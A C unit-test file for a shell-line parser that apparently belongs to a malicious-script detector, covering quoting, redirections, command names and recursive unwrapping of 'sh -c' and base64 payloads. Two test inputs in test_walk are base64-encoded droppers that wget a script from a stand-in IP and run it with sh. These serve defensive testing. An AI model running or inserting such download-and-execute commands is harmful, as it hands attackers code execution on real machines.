/* test_shell.c - a line as a shell would read it: words, redirections, quotes that close and quotes that do not; and what
 * is wrapped inside words (script.h). */
#include "testing.h"

#include <stdio.h>

#include "detect/text/script.h"

static void
render(const struct shell_command *c, char *out, size_t size, size_t *len)
{
	for (size_t i = 0; i < c->n; i++)
		*len += (size_t)snprintf(out + *len, size - *len, "%s[%.*s]",
		    c->words[i].redirect ? "!" : "", SV_ARG(c->words[i].text));
	*len += (size_t)snprintf(out + *len, size - *len, "%s", c->pipes ? "|" : ";");
}

static void
test_parse(void **state)
{
	/* clang-format off */
	static const struct {
		const char *line, *want;
	} cases[] = {
		{ "", "" },
		{ "a b", "[a][b];" },
		{ "a;b&&c||d&e\nf|g", "[a];[b];[c];[d];[e];[f]|[g];" },
		{ "a 'b c' \"d e\" f\\ g", "[a][b c][d e][f g];" },
		{ "a ''", "[a][];" },
		{ "a\"b\"'c'd", "[abcd];" },
		{ "a \"x\\\"y\\$z\\n\"", "[a][x\"y$z\\n];" },
		{ "a 'x\\'y", "[a][x\\y];" },
		{ "a \"never", "[a][never];" },
		{ "it's a b", "[its][a][b];" },
		{ "a>b 2>&1 >>c 2>/dev/null", "[a]![>][b]![>>][c]![>][/dev/null];" },
		{ "a &>b", "[a]![>][b];" },
		{ "a <<< b", "[a]![<<<][b];" },
		{ "a 2 > b", "[a][2]![>][b];" },
		{ "a2>b", "[a2]![>][b];" },
		{ "a $(b c) `d`", "[a];[b][c];[d];" },
		{ "(a;b)", "[a];[b];" },
		{ "if a; then b; else c; fi; while d; do e; done", "[a];[b];[c];[d];[e];" },
		{ "a # b\nc", "[a];[c];" },
		{ "a#b", "[a#b];" },
		{ "echo \\x41 \\101 \\n", "[echo][\\x41][\\101][n];" },
		{ "a \\\n b", "[a][b];" },
		{ "a\\", "[a];" },
		{ ";;||&&", "" },
	};
	/* clang-format on */
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct shell_line line;
		char got[512] = "";
		size_t len = 0;

		assert_true(shell_parse(sv_from(cases[i].line), scratch, &line));
		for (size_t k = 0; k < line.n; k++)
			render(&line.commands[k], got, sizeof(got), &len);
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("%s\n  got  %s\n  want %s", cases[i].line, got, cases[i].want);
	}
	arena_free(scratch);
}

static void
test_names(void **state)
{
	/* clang-format off */
	static const struct {
		const char *line, *name, *applet, *script;
		size_t arg;
	} cases[] = {
		{ "/usr/bin/wget x", "wget", "wget", NULL, 1 },
		{ "/bin/busybox wget x", "busybox", "wget", NULL, 2 },
		{ "busybox", "busybox", "busybox", NULL, 1 },
		{ "nohup sudo ./a b", "nohup", "a", NULL, 3 },
		{ "> f echo x", "echo", "echo", NULL, 3 },
		{ "> f", NULL, NULL, NULL, 2 },
		{ "bash -x -c 'a b'", "bash", "bash", "a b", 1 },
		{ "su root -c x", "su", "su", "x", 1 },
		{ "eval x", "eval", "eval", "x", 1 },
		{ "sh -c", "sh", "sh", NULL, 1 },
		{ "dir/", "dir/", "dir/", NULL, 1 },
	};
	/* clang-format on */
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct shell_line line;
		size_t arg;

		assert_true(shell_parse(sv_from(cases[i].line), scratch, &line));
		assert_int_equal(line.n, 1);
		assert_true(sv_eq(shell_name(&line.commands[0]), sv_from(cases[i].name)));
		assert_true(sv_eq(shell_applet(&line.commands[0], &arg), sv_from(cases[i].applet)));
		assert_int_equal(arg, cases[i].arg);
		assert_true(sv_eq(shell_script(&line.commands[0]), sv_from(cases[i].script)));
	}
	arena_free(scratch);
}

static void
test_limits(void **state)
{
	struct arena *scratch = arena_new(4 << 20);
	struct shell_line line;
	char *text = test_malloc(200000);

	(void)state;
	memset(text, 'a', 200000);
	assert_true(shell_parse((struct sv){ text, 200000 }, scratch, &line));
	assert_int_equal(line.n, 1);
	assert_int_equal(line.commands[0].words[0].text.len, SHELL_LINE_MAX);
	for (size_t i = 1; i < 200000; i += 2)
		text[i] = ';';
	assert_true(shell_parse((struct sv){ text, 200000 }, scratch, &line));
	assert_int_equal(line.n, SHELL_WORDS_MAX);
	arena_free(scratch);
	scratch = arena_new(64);
	assert_false(shell_parse((struct sv){ text, 200000 }, scratch, &line));
	test_free(text);
	arena_free(scratch);
}

struct names {
	char text[512];
	size_t len;
};

static void
visit(void *context, const struct shell_command *c, const struct shell_command *next)
{
	struct names *names = context;

	names->len += (size_t)snprintf(names->text + names->len, sizeof(names->text) - names->len,
	    "%.*s%s ", SV_ARG(shell_name(c)), next == NULL ? "." : "");
}

/** Base64 twice over, `sh -c` four deep: opened once, and three deep. */
static void
test_walk(void **state)
{
	/* clang-format off */
	static const struct {
		const char *line, *want;
	} cases[] = {
		{ "a; b | c", "a b c. " },
		{ "sh -c 'a; b'; c", "sh a b. c. " },
		{ "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3guc2g7IHNoIHguc2g= | sh", "echo cd wget sh. sh. " },
		/* base64 of: echo d2dldCBodHRwOi8vMS4yLjMuNC94OyBzaCB4 | base64 -d */
		{ "echo ZWNobyBkMmRsZENCb2RIUndPaTh2TVM0eUxqTXVOQzk0T3lCemFDQjQgfCBiYXNlNjQgLWQ=", "echo. echo base64. " },
		{ "sh -c \"sh -c 'sh -c \\\"sh -c a\\\"'\"", "sh. sh. sh. sh. " },
		{ "eval eval eval eval", "eval. eval. " },
	};
	/* clang-format on */
	struct arena *scratch = arena_new(4 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct names got = { .len = 0 };

		script_walk(sv_from(cases[i].line), false, scratch, visit, &got);
		if (strcmp(got.text, cases[i].want) != 0)
			fail_msg(
			    "%s\n  got  %s\n  want %s", cases[i].line, got.text, cases[i].want);
		assert_int_equal(arena_used(scratch), 0);
	}
	arena_free(scratch);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_walk),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
